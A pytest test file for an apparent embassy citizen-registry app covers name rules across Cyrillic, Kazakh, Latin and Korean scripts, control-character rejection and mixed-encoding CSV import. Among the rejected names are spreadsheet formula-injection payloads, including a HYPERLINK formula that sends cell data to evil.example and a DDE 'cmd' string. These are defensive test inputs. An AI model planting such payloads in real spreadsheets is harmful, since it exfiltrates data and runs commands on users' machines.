"""Names and free text (issue 9 item 8, issue 10 defect 9): what a name may hold, control
characters in any field, and CSV files that mix UTF-8 and Windows-1251 rows."""

from __future__ import annotations

import random
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from embassy_desk.domain.citizen import (
    NAME_FIELDS,
    SCALAR_TEXT_FIELDS,
    InvalidRecord,
    ValidationContext,
    name_problem,
    validate_citizen,
)
from embassy_desk.domain.errors import ValidationError
from embassy_desk.domain.messages import Msg, render
from embassy_desk.importing.tabular import open_table
from tests.conftest import aigerim

CTX = ValidationContext()


def _problems(data: dict[str, object]) -> dict[str, Msg]:
    with pytest.raises(InvalidRecord) as caught:
        validate_citizen(data, CTX)
    return {name: message for name, message in caught.value.problems}  # type: ignore[misc]


# --------------------------------------------------------------------------- the name rule


@pytest.mark.parametrize(
    "name",
    [
        "Нурланова",
        "Ізбасаров",
        "Өтепова",
        "Қасымқызы Ұлжан",
        "Серік ұлы",
        "Семёнов",
        "O'Brien",
        "D\u2019Artagnan",
        "Jean-Luc",
        "Müller-Lüdenscheidt",
        "김민준",
        "Ли Мин-хо",
    ],
)
def test_names_of_every_supported_script_are_accepted(name: str) -> None:
    assert name_problem(name) is None
    stored = validate_citizen(aigerim(surname=name, given_names=name, surname_latin=None), CTX)
    assert stored["surname"] == name


@pytest.mark.parametrize(
    ("name", "code", "shown"),
    [
        ("НурлановаАйгерім010-5555-1234", "name.digits", "contains digits"),
        ('=HYPERLINK("http://evil.example/?x="&A2,"click")', "name.characters", "'='"),
        ("+cmd|'/c calc'!A1", "name.characters", "'+'"),
        ("@SUM(1+1)", "name.characters", "'@'"),
        ("Ivanov.", "name.characters", "'.'"),
        ("-", "name.no_letter", "has no letters"),
    ],
)
def test_names_with_other_characters_say_what_is_wrong(name: str, code: str, shown: str) -> None:
    problems = _problems(aigerim(surname=name))
    assert problems["surname"].code == code
    assert shown in problems["surname"]
    assert "letters, spaces, hyphens and apostrophes" in problems["surname"] or code == "name.no_letter"
    assert "буквы" not in render(problems["surname"], "en")
    assert "букв" in render(problems["surname"], "ru")


@pytest.mark.parametrize("field", NAME_FIELDS)
def test_every_name_field_follows_the_rule(field: str) -> None:
    assert _problems(aigerim(**{field: "Smith2"}))[field].code == "name.digits"


_LETTERS = "АБВГДЕЁЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯабвгдеёжзийклмнопрстуфхцчшщъыьэюяӘәҒғҚқҢңӨөҰұҮүҺһІі"
_LETTERS += "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyzÀÉÖÜßçñ" + "김민준이서연박"
_JOINERS = " -'\u2019"
_FORBIDDEN = '0123456789=+@<>;:.,!?()[]{}/\\|"#$%^&*_~`\u00d7'


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=_LETTERS, min_size=1, max_size=12),
    st.text(alphabet=_LETTERS + _JOINERS, max_size=20),
    st.text(alphabet=_FORBIDDEN, min_size=1, max_size=3),
    st.integers(min_value=0, max_value=40),
)
def test_name_rule_property(first: str, rest: str, bad: str, where: int) -> None:
    name = (first + rest).strip()
    assert name_problem(name) is None
    position = where % (len(name) + 1)
    wrong = name[:position] + bad + name[position:]
    problem = name_problem(wrong)
    assert problem is not None
    if bad.isdecimal():
        assert problem.code == "name.digits"
    else:
        assert problem.code == "name.characters"
        for char in bad:
            assert char.isdecimal() or repr(char) in problem


# --------------------------------------------------------------------------- control characters


@pytest.mark.parametrize(
    "field",
    [
        *SCALAR_TEXT_FIELDS,
        "household",
        "emergency_contact_name",
        "emergency_contact_relation",
        "messenger",
        "email",
        "phone",
        "passport_number",
        "region",
    ],
)
@pytest.mark.parametrize("char", ["\x00", "\x1b", "\u202e", "\u200b", "\x7f"])
def test_control_characters_are_refused_in_every_text_field(field: str, char: str) -> None:
    base = aigerim()
    value = f"Ab{char}cd" if field not in base else f"{str(base[field])[:3]}{char}{str(base[field])[3:]}"
    problems = _problems({**base, field: value})
    assert problems[field].code == "text.control", problems
    assert f"U+{ord(char):04X}" in problems[field]


def test_a_surname_of_four_nuls_is_refused() -> None:
    problems = _problems(aigerim(surname="\x00\x00\x00\x00", surname_latin=None))
    assert problems["surname"].code == "text.control"


def test_line_breaks_are_text_in_notes_and_address_only() -> None:
    stored = validate_citizen(aigerim(notes="line one\nline two\tend", address="Seoul\r\nMapo-gu"), CTX)
    assert stored["notes"] == "line one\nline two\tend"
    assert _problems(aigerim(city="Seoul\nBusan"))["city"].code == "text.control"
    assert _problems(aigerim(notes="a\x00b"))["notes"].code == "text.control"


# --------------------------------------------------------------------------- encodings

_RUSSIAN = "АБВГДЕЁЖЗИЙКЛМНОПРСТУФХЦЧШЩЫЭЮЯабвгдеёжзийклмнопрстуфхцчшщъыьэюя"


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(st.text(alphabet=_RUSSIAN, min_size=2, max_size=12), st.sampled_from(["utf-8", "cp1251"])),
        min_size=1,
        max_size=30,
    ),
    st.sampled_from(["utf-8", "cp1251"]),
    st.integers(min_value=0, max_value=3000),
)
def test_rows_in_mixed_encodings_are_refused_by_row_and_never_garbled(
    rows: list[tuple[str, str]], header_encoding: str, latin_rows: int
) -> None:
    # ASCII rows first, so that the start of the file (what is sniffed) tells nothing sometimes.
    lines = [("Фамилия;Имя\r\n", header_encoding)]
    lines += [(f"Smith;John{i}\r\n", "ascii") for i in range(latin_rows)]
    lines += [(f"{name};Иван\r\n", encoding) for name, encoding in rows]
    kinds = {number: encoding for number, (_, encoding) in enumerate(lines, start=1) if encoding != "ascii"}
    with TemporaryDirectory() as folder:
        path = Path(folder) / "list.csv"
        path.write_bytes(b"".join(text.encode(encoding) for text, encoding in lines))
        if len(set(kinds.values())) == 1:
            read = [row.values["surname"] for row in open_table(path).rows()]
            assert read == [*(["Smith"] * latin_rows), *(name for name, _ in rows)]
            return
        with pytest.raises(ValidationError) as caught:
            list(open_table(path).rows())
    error = caught.value
    assert error.code == "import.mixed_encoding"
    utf8 = [n for n, e in kinds.items() if e == "utf-8"]
    legacy = [n for n, e in kinds.items() if e == "cp1251"]
    for numbers, label in ((utf8, "are UTF-8"), (legacy, "are Windows-1251")):
        shown = ", ".join(str(n) for n in numbers[:10])
        assert f"rows {shown}" in error.message and label in error.message
    assert error.row == (utf8 if len(utf8) <= len(legacy) else legacy)[0]


def test_a_wholly_windows_1251_file_is_read_as_such_even_after_a_latin_start(tmp_path: Path) -> None:
    path = tmp_path / "old.csv"
    ascii_rows = "".join(f"Smith;John{i}\r\n" for i in range(5000))
    path.write_bytes(("Surname;Given names\r\n" + ascii_rows + "Абаев;Ерлан\r\n").encode("cp1251"))
    source = open_table(path)
    assert source.encoding == "cp1251"
    assert list(source.rows())[-1].values == {"surname": "Абаев", "given_names": "Ерлан"}


def test_a_random_order_of_both_kinds_never_reads_mojibake(tmp_path: Path) -> None:
    rng = random.Random(7)
    names = ["Абаев", "Ким", "Өтепова", "Пётр"]
    path = tmp_path / "mixed.csv"
    data = "Фамилия;Имя\r\n".encode()
    for i in range(200):
        name = rng.choice(names[:2] + names[3:])
        data += f"{name};Иван{i}\r\n".encode("utf-8" if i % 50 else "cp1251")
    path.write_bytes(data)
    with pytest.raises(ValidationError) as caught:
        list(open_table(path).rows())
    assert "rows 2, 52, 102, 152 are Windows-1251" in caught.value.message
